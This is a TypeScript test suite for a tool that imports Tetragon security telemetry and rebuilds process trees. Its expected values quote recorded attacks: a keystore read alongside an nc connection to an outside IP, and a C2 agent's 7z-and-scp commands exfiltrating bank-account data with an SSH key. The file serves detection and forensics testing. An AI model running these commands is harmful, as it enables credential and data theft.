import assert from 'node:assert/strict';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';
import {
  execIdFor,
  type ProcessNode,
  type ProcessTree,
  type ProcessTreeNode,
} from '@proctrail/schema';
import type { ImportSummary } from './importer';
import { CORPUS_DIR, corpusFile, jsonOf, runCli, scratchDir } from '../testing/harness';

type ImportReport = ImportSummary & {
  database: { events: number; executions: number; placeholders: number; unattributed: number };
};

const scratch = scratchDir();
after(() => scratch.remove());

const CORPUS_FILES = readdirSync(CORPUS_DIR).filter((f) => /\.jsonl?$/.test(f));

/** Imports one corpus file, read where it lies, into its own database; returns the report. */
async function importInto(db: string, file: string, extra: string[] = []): Promise<ImportReport> {
  const run = await runCli(['import', file, '--db', db, '--json', ...extra]);
  assert.equal(run.code, 0, run.stderr);
  return jsonOf<ImportReport>(run);
}

async function treeOf(db: string, execId: string): Promise<ProcessTree> {
  const run = await runCli(['tree', execId, '--db', db, '--json']);
  assert.equal(run.code, 0, run.stderr);
  return jsonOf<ProcessTree>(run);
}

async function searchJson(db: string, filters: string[]): Promise<ProcessNode[]> {
  const run = await runCli(['search', '--db', db, '--json', ...filters]);
  assert.equal(run.code, 0, run.stderr);
  return jsonOf<ProcessNode[]>(run);
}

function linesOf(file: string): string[] {
  return readFileSync(file, 'utf8').split('\n').filter(Boolean);
}

function childByPid(tree: ProcessTree, pid: number): ProcessTreeNode {
  const child = tree.children.find((c) => c.pid === pid);
  assert.ok(child, `no child with pid ${pid} among ${tree.children.map((c) => c.pid).join(', ')}`);
  return child;
}

test('every file of the real corpus imports with no line skipped', async () => {
  assert.ok(CORPUS_FILES.length >= 6, `corpus files: ${CORPUS_FILES.join(', ')}`);
  for (const name of CORPUS_FILES) {
    const report = await importInto(scratch.db(`all-${name}.db`), corpusFile(name));
    const events = name.endsWith('.json') ? 1 : linesOf(corpusFile(name)).length;
    assert.equal(report.read, events, name);
    assert.equal(report.stored, events, name);
    assert.deepEqual(report.skipped, [], name);
    assert.equal(report.database.events, events, name);
  }
});

describe('book-process-lifecycle.jsonl', () => {
  const db = scratch.db('lifecycle.db');
  const sh = execIdFor('minikube', 3349760516111n, 38312);
  before(() => importInto(db, corpusFile('book-process-lifecycle.jsonl')));

  test('bash 24200 starts sh lifecycle.sh, which starts cat and nc', async () => {
    const tree = await treeOf(db, sh);
    assert.equal(tree.process.binary, '/usr/bin/sh');
    assert.equal(tree.process.arguments, 'lifecycle.sh');
    assert.equal(tree.process.relation, 'fork+exec');
    const bash = tree.ancestors.at(-1)!;
    assert.equal(bash.pid, 24200);
    assert.equal(bash.binary, '/bin/bash');
    assert.equal(bash.placeholder, true, 'bash only appears as a parent');
    assert.deepEqual(tree.children.map((c) => [c.pid, c.binary, c.exec_id]).sort(), [
      [38313, '/usr/bin/cat', execIdFor('minikube', 3349766462822n, 38313)],
      [38314, '/usr/bin/nc', execIdFor('minikube', 3349767819535n, 38314)],
    ]);
    for (const node of [tree.process, ...tree.children]) {
      assert.equal(node.placeholder, false);
      assert.deepEqual(node.exit?.status, 0, `${node.binary} exited`);
    }
  });

  test('nc connects to 64.225.45.153:443 and closes that connection', async () => {
    const nc = childByPid(await treeOf(db, sh), 38314);
    assert.deepEqual(
      nc.network.map((e) => [e.type, e.protocol, e.saddr, e.sport, e.daddr, e.dport, e.family]),
      [
        ['connect', 'TCP', '10.88.0.6', 48416, '64.225.45.153', 443, 'AF_INET'],
        ['close', 'TCP', '10.88.0.6', 48416, '64.225.45.153', 443, 'AF_INET'],
      ],
    );
  });

  test('cat reads the keystore, its relative path made absolute', async () => {
    const cat = childByPid(await treeOf(db, sh), 38313);
    assert.deepEqual(cat.files, [
      {
        operation: 'read',
        path: '/usr/share/elasticsearch/config/elasticsearch.keystore',
        count: 1,
        bytes: 65536,
        firstTime: '2022-02-01T18:01:56.410000000Z',
      },
    ]);
    assert.equal(cat.network.length, 0);
  });
});

describe('book-merlin-c2-chain.jsonl', () => {
  const db = scratch.db('merlin.db');
  const agent = execIdFor('minikube', 2082573382801n, 25744);
  const ssh = execIdFor('minikube', 4733796867943n, 53768);
  let report: ImportReport;
  before(async () => {
    report = await importInto(db, corpusFile('book-merlin-c2-chain.jsonl'));
  });

  test('the C2 agent, started by go run, spawns the 7z and the scp shells', async () => {
    const tree = await treeOf(db, agent);
    assert.match(tree.process.binary!, /^\/tmp\/go-build\d+\/b001\/exe\/main$/);
    assert.equal(tree.process.pid, 25744);
    assert.equal(tree.ancestors.at(-1)!.binary, '/usr/local/go/bin/go');
    const shells = tree.children.map((c) => [c.pid, c.binary, c.arguments]);
    assert.deepEqual(shells.sort(), [
      [45779, '/bin/sh', '-c "7z a s3nsitiv3.7z ../ops_bank_accounts/"'],
      [53766, '/bin/sh', '-c "scp -i ~/.ssh/id_rsa s3nsitiv3.7z natalia@34.116.205.187:~"'],
    ]);
    const scpShell = childByPid(tree, 53766);
    assert.deepEqual(
      scpShell.children.map((c) => [c.pid, c.binary]),
      [[53767, '/usr/bin/scp']],
    );
  });

  test('the agent keeps its unmatched close (port 46866) and unmatched connect (47048)', async () => {
    const { process: main } = await treeOf(db, agent);
    const bySport = (sport: number) =>
      main.network.filter((e) => e.sport === sport).map((e) => [e.type, e.daddr, e.dport]);
    assert.deepEqual(bySport(46866), [['close', '34.116.205.187', 443]]);
    assert.deepEqual(bySport(47048), [['connect', '34.116.205.187', 443]]);
    const close = main.network.find((e) => e.sport === 46866)!;
    assert.equal(close.bytesSent, 4364);
    assert.equal(close.bytesReceived, 8874);
  });

  test('ssh connects to port 22 and closes, with the byte counts of the close', async () => {
    const tree = await treeOf(db, ssh);
    assert.equal(tree.process.binary, '/usr/bin/ssh');
    assert.deepEqual(
      tree.process.network.map((e) => [e.type, e.sport, e.daddr, e.dport, e.bytesSent]),
      [
        ['connect', 49662, '34.116.205.187', 22, undefined],
        ['close', 49662, '34.116.205.187', 22, 3265],
      ],
    );
  });

  test('the 7z exec reuses the agent exec_id in this file and is reported as a collision', () => {
    assert.deepEqual(report.collisions, [agent]);
  });

  test('the 7z wrapper execs p7zip without a fork: same pid 45780, relation re-exec', async () => {
    // In the book's data the p7zip exit carries the agent's exec_id (the collision above), so
    // the re-exec is read from that real line alone.
    const line = linesOf(corpusFile('book-merlin-c2-chain.jsonl')).find((l) =>
      l.includes('"binary":"/usr/lib/p7zip/7z"'),
    )!;
    const file = `${scratch.dir}/p7zip-exit.jsonl`;
    writeFileSync(file, `${line}\n`);
    const alone = scratch.db('p7zip.db');
    await importInto(alone, file);
    const tree = await treeOf(alone, agent);
    assert.equal(tree.process.binary, '/usr/lib/p7zip/7z');
    assert.equal(tree.process.pid, 45780);
    assert.equal(tree.process.relation, 're-exec');
    assert.equal(tree.ancestors.at(-1)!.binary, '/usr/bin/7z');
    assert.equal(tree.ancestors.at(-1)!.pid, 45780);
  });
});

describe('tetragon-docs-examples.jsonl', () => {
  const db = scratch.db('docs.db');
  const kernel = execIdFor('kind-control-plane', 1n, 0);
  let report: ImportReport;
  before(async () => {
    report = await importInto(db, corpusFile('tetragon-docs-examples.jsonl'));
  });

  test('bash -c becomes curl in the same pid 52699: a re-exec under the previous image', async () => {
    const node = 'gke-john-632-default-pool-7041cac0-9s95';
    const tree = await treeOf(db, execIdFor(node, 13548674321373n, 52699));
    assert.equal(tree.process.binary, '/usr/bin/curl');
    assert.equal(tree.process.relation, 're-exec');
    const bash = tree.ancestors.at(-1)!;
    assert.equal(bash.exec_id, execIdFor(node, 13548670883299n, 52699));
    assert.equal(bash.binary, '/bin/bash');
    assert.equal(bash.pid, 52699);
  });

  test('the <kernel> process is a root, never a loop, with modprobe under it', async () => {
    const fromChild = await treeOf(db, execIdFor('kind-control-plane', 41275524263221n, 130877));
    assert.equal(fromChild.ancestryTruncated, false);
    assert.deepEqual(
      fromChild.ancestors.map((a) => [a.exec_id, a.binary, a.relation]),
      [[kernel, '<kernel>', 'root']],
    );
    const fromKernel = await treeOf(db, kernel);
    assert.equal(fromKernel.process.relation, 'root');
    assert.deepEqual(fromKernel.ancestors, []);
    assert.equal(fromKernel.ancestryTruncated, false);
    assert.deepEqual(
      fromKernel.children.map((c) => [c.binary, c.arguments, c.children.length]),
      [['/sbin/modprobe', '-q -- fs-xfs', 0]],
    );
    assert.equal(fromKernel.omittedDescendants, 0);
  });

  test('events without node_name are stored, under exec_ids with an empty node name', async () => {
    const [insmod] = await searchJson(db, ['--binary', 'insmod']);
    assert.equal(insmod!.exec_id, execIdFor('', 13188140450890n, 82023));
    assert.equal(insmod!.node_name, undefined);
    assert.deepEqual(
      insmod!.files.map((f) => [f.operation, f.path]),
      [['read', '/home/tixxdz/tetragon/contrib/tester-progs/kernel_module_hello.ko']],
    );
  });

  test('process_throttle events are kept, and exported again', async () => {
    assert.equal(report.byKind.process_throttle, 2);
    const run = await runCli(['export', '--db', db]);
    const throttles = run.stdout
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l))
      .filter((e) => e.process_throttle)
      .map((e) => e.process_throttle.type);
    assert.deepEqual(throttles, ['THROTTLE_START', 'THROTTLE_STOP']);
  });
});

describe('playground-tcp-sendmsg.jsonl', () => {
  const db = scratch.db('playground.db');
  const tetragon = execIdFor('b951e7f88447', 5954105970000000n, 987509);
  before(() => importInto(db, corpusFile('playground-tcp-sendmsg.jsonl')));

  test('processes found by the /proc scan are procfs nodes under an unknown systemd', async () => {
    const tree = await treeOf(db, tetragon);
    assert.equal(tree.process.relation, 'procfs');
    assert.equal(tree.process.flags, 'procFS auid rootcwd');
    assert.deepEqual(
      tree.ancestors.map((a) => [a.exec_id, a.binary, a.placeholder]),
      [
        [execIdFor('b951e7f88447', 650000000n, 1), undefined, true],
        [
          execIdFor('b951e7f88447', 5954105920000000n, 987489),
          '/usr/bin/containerd-shim-runc-v2',
          true,
        ],
      ],
    );
  });

  test('events of three threads land on their one process, pid 987509', async () => {
    const found = await searchJson(db, ['--pid', '987509']);
    assert.equal(found.length, 1);
    const [sendmsg] = found[0]!.network;
    assert.equal(found[0]!.network.length, 1, 'one 4-tuple');
    assert.equal(sendmsg!.type, 'sendmsg');
    assert.equal(sendmsg!.count, 5);
    assert.equal(sendmsg!.bytesSent, 8680 + 3907 + 17 + 1992 + 17);
    const tids = linesOf(corpusFile('playground-tcp-sendmsg.jsonl'))
      .map((l) => JSON.parse(l).process_kprobe.process)
      .filter((p) => p.pid === 987509)
      .map((p) => p.tid);
    assert.deepEqual([...new Set(tids)].sort(), [987559, 987560, 987577]);
  });

  test('socket cookies beyond 2^53 stay exact strings', async () => {
    const [node] = await searchJson(db, ['--pid', '987509']);
    assert.equal(node!.network[0]!.cookie, '18446613061298568960');
    const exported = (await runCli(['export', '--db', db, '--pid', '987509'])).stdout;
    assert.match(exported, /"cookie":"18446613061298568960"/);
  });

  test('an AF_INET6 socket carrying IPv4 addresses is an edge found by its address', async () => {
    const found = await searchJson(db, ['--ip', '172.25.0.2']);
    assert.deepEqual(
      found.map((n) => n.binary),
      ['/usr/local/bin/nats-server'],
    );
    assert.deepEqual(
      found[0]!.network.map((e) => [e.family, e.saddr, e.sport, e.daddr, e.dport]),
      [['AF_INET6', '172.25.0.5', 4222, '172.25.0.2', 49746]],
    );
  });

  test('a parent binary ending in " (deleted)" is kept as it was written', async () => {
    const [processor] = await searchJson(db, ['--binary', '/app/processor']);
    const tree = await treeOf(db, processor!.exec_id);
    assert.equal(tree.ancestors.at(-1)!.binary, '/usr/bin/containerd-shim-runc-v2 (deleted)');
  });
});

describe('playground-udevadm-fork-skb.json', () => {
  const db = scratch.db('udevadm.db');
  before(() => importInto(db, corpusFile('playground-udevadm-fork-skb.json')));

  test('the pretty-printed object is one fork-only udevadm under udevadm 393', async () => {
    const tree = await treeOf(db, execIdFor('d1a3316a64d8', 9279919849518678n, 2386271));
    assert.equal(tree.process.binary, '/usr/bin/udevadm');
    assert.equal(tree.process.relation, 'fork-only');
    const parent = tree.ancestors.at(-1)!;
    assert.deepEqual(
      [parent.exec_id, parent.pid, parent.binary, parent.relation],
      [execIdFor('d1a3316a64d8', 3540000000n, 393), 393, '/usr/bin/udevadm', 'procfs'],
    );
  });

  test('an AF_NETLINK socket is not a network edge', async () => {
    const tree = await treeOf(db, execIdFor('d1a3316a64d8', 9279919849518678n, 2386271));
    assert.deepEqual(tree.process.network, []);
  });
});

describe('tetragon-testdata-events.jsonl', () => {
  const db = scratch.db('testdata.db');
  const node = 'gke-michi-22038-default-pool-43730fab-l8zr';
  before(() => importInto(db, corpusFile('tetragon-testdata-events.jsonl')));

  test('dangling parents become placeholders, their own parents unknown ones', async () => {
    const tree = await treeOf(db, execIdFor(node, 13665822624856n, 68790));
    assert.equal(tree.process.binary, '/usr/bin/netserver');
    assert.equal(tree.process.pod?.namespace, 'default');
    assert.deepEqual(
      tree.ancestors.map((a) => [a.exec_id, a.binary, a.placeholder]),
      [
        [execIdFor(node, 13660468722528n, 68587), undefined, true],
        [execIdFor(node, 13660480651595n, 68598), '/usr/bin/containerd-shim-runc-v2', true],
      ],
    );
  });

  test('the event without a time is stored and exported as it came', async () => {
    const exported = await runCli(['export', '--db', db, '--binary', 'netserver']);
    const events = exported.stdout.split('\n').filter(Boolean);
    assert.equal(events.length, 1);
    assert.equal(JSON.parse(events[0]!).time, undefined);
    assert.equal(JSON.parse(events[0]!).node_name, 'my-node');
  });
});

/** A tree as JSON without the names of the sources it came from. */
function withoutSource(value: unknown): unknown {
  return JSON.parse(JSON.stringify(value), (key, v) => (key === 'source' ? undefined : v));
}

test('export then import into a fresh database gives the same trees and counts', async () => {
  for (const name of CORPUS_FILES) {
    const first = scratch.db(`round-1-${name}.db`);
    const second = scratch.db(`round-2-${name}.db`);
    const imported = await importInto(first, corpusFile(name));
    const exported = await runCli(['export', '--db', first]);
    assert.equal(exported.code, 0, exported.stderr);
    const file = `${scratch.dir}/${name}.export.jsonl`;
    writeFileSync(file, exported.stdout);
    const reimported = await importInto(second, file, ['--source', 'again']);

    assert.deepEqual(reimported.database, imported.database, name);
    const processes = await searchJson(first, ['--limit', '10000']);
    assert.equal(processes.length, imported.database.executions, name);
    for (const { exec_id: execId } of processes) {
      assert.deepEqual(
        withoutSource(await treeOf(second, execId)),
        withoutSource(await treeOf(first, execId)),
        `${name}: tree of ${execId}`,
      );
    }
  }
});

test('importing the same file twice stores each event once', async () => {
  const db = scratch.db('twice.db');
  for (const name of CORPUS_FILES) {
    const once = await importInto(db, corpusFile(name));
    const twice = await importInto(db, corpusFile(name));
    assert.equal(twice.stored, 0, name);
    assert.equal(twice.duplicates, once.stored, name);
    assert.deepEqual(twice.collisions, [], name);
    assert.deepEqual(twice.database, once.database, name);
  }
});
